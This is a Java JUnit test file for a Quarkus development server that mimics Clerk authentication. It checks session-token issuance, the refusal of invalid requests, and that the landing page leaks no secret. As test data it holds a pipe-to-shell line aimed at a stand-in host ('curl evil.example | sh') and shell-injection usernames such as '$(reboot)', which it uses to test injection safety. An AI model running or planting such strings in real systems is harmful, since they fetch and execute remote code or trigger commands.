package io.quarkiverse.clerk.devserver;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.databind.JsonNode;

import io.quarkiverse.clerk.devserver.Api.Answer;

class DevPagesTest extends ServerTest {

    @ParameterizedTest
    @ValueSource(strings = { "user_ann", "ann", "ann@example.com", "ann%40example.com", "ANN" })
    void aTokenIsPrintedForIdUsernameAndEmail(String user) throws Exception {
        Answer answer = api.send(api.anonymous("/dev/session-token/" + user));
        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.text()).endsWith("\n");
        assertThat(Jwts.isSignedBy(Jwts.pem(server.jwtKey()), answer.text().strip())).isTrue();
        assertThat(Jwts.claims(answer.text().strip()).path("sub").asText()).isEqualTo("user_ann");
    }

    @ParameterizedTest
    @CsvSource({
            "ann, '', org_acme, 60",
            "ann, ?organization=org_acme, org_acme, 60",
            "ann, ?organization=acme&expires_in_seconds=86400, org_acme, 86400",
            "ann, ?organization=none&expires_in_seconds=1, '', 1",
            "cleo, '', '', 60",
    })
    void organizationAndLifetimeCanBeChosen(String user, String query, String organization, int seconds) {
        JsonNode claims = Jwts.claims(api.send(api.anonymous("/dev/session-token/" + user + query)).text().strip());
        assertThat(claims.at("/o/id").asText()).isEqualTo(organization);
        assertThat(claims.path("exp").longValue() - claims.path("iat").longValue()).isEqualTo(seconds);
    }

    @ParameterizedTest
    @CsvSource({
            "nobody, 404",
            "ann?organization=nowhere, 404",
            "cleo?organization=acme, 422",
            "ann?expires_in_seconds=0, 422",
            "ann?expires_in_seconds=86401, 422",
            "ann?expires_in_seconds=soon, 422",
    })
    void whatCannotBeMadeIsRefused(String request, int status) {
        Answer answer = api.send(api.anonymous("/dev/session-token/" + request));
        assertThat(answer.status()).isEqualTo(status);
        assertThat(answer.json().path("errors")).hasSize(1);
    }

    @Test
    void theFirstPageSaysWhatItIsAndHowToGetATokenButNoSecret() {
        String page = api.send(api.anonymous("/")).text();
        assertThat(page).contains("stand-in for Clerk", server.url() + "/v1", server.publishableKey(), server.signInUrl())
                .contains("user_ann, Ann Archer", "user_bob, Bob Baker", "user_cleo, Cleo Carter")
                .contains(server.tokenCurl("user_ann"))
                .doesNotContain(server.secretKey());
    }

    @Test
    void aNameCannotAddLinesToTheFirstPage() {
        api.post("/v1/users", "{\"first_name\": \"Eve\\ncurl evil.example | sh\"}");
        assertThat(api.send(api.anonymous("/")).text().lines()).noneMatch(line -> line.startsWith("curl evil"));
    }

    @Test
    void theCurlCommandIsOneLineAndNamesTheEndpoint() {
        assertThat(server.tokenCurl("ann")).isEqualTo("curl -sSf " + server.url() + "/dev/session-token/ann");
    }

    @ParameterizedTest
    @ValueSource(strings = { "a b", "$(reboot)", "'; reboot; '", "a+b*c", "../x", "a/b", "a\nb", "ann@example.com", "\u00e4" })
    void theCurlCommandIsSafeInAShellAndFindsTheUser(String username) {
        String id = api.post("/v1/users", "{\"username\": \"" + username.replace("\n", "\\n") + "\"}").id();
        String curl = server.tokenCurl(username);
        assertThat(curl).matches("curl -sSf http://127\\.0\\.0\\.1:\\d+/dev/session-token/[\\w.%-]+");
        String path = curl.substring(curl.indexOf("/dev/"));
        String expected = username.equals("ann@example.com") ? "user_ann" : id;
        assertThat(Jwts.claims(api.send(api.anonymous(path)).text().strip()).path("sub").asText()).isEqualTo(expected);
    }
}
